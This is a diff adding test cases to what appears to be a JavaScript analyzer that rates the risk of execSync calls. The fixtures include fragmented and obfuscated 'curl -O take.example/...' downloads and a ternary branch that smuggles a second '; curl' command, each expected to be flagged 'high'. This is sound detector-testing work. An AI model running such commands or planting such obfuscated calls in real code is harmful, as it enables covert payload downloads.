@@ -69,10 +69,26 @@ describe('a command that is a choice between constant texts', () => {
       "let find = isNew ? 'where' : 'which'; find = process.argv[2]; execSync(`${find} rg`);",
     ],
     [
+      'a line of many pieces before the choice',
+      "execSync('cu' + 'rl' + ' ' + '-' + 'O' + ' ' + 'take' + '.' + 'example' + '/' + (isNew ? 'x' : 'y'));",
+    ],
+    [
+      'a line of more pieces than are looked at',
+      `execSync('curl take.example/' ${'+ name '.repeat(300)} + (isNew ? 'x' : 'y'));`,
+    ],
+    [
       'more than a few',
       "execSync(`${a ? 'which' : 'where'} ${b ? 'a' : 'b'}${c ? 'a' : 'b'}${d ? 'a' : '; curl -O take.example/x'}`);",
     ],
   ])('is as loud as the loudest: %s', (_, code) => {
     expect(told(code)).toEqual(['high']);
+  });
+
+  it('is looked at in parts that are not made of one another without end', () => {
+    const parts = Array.from(
+      { length: 9 },
+      (_, at) => `const a${at + 1} = \`${`\${a${at}}`.repeat(60)}\`;`,
+    );
+    expect(told(`const a0 = process.argv[2]; ${parts.join('\n')} execSync(a9);`)).toEqual(['high']);
   });
 });
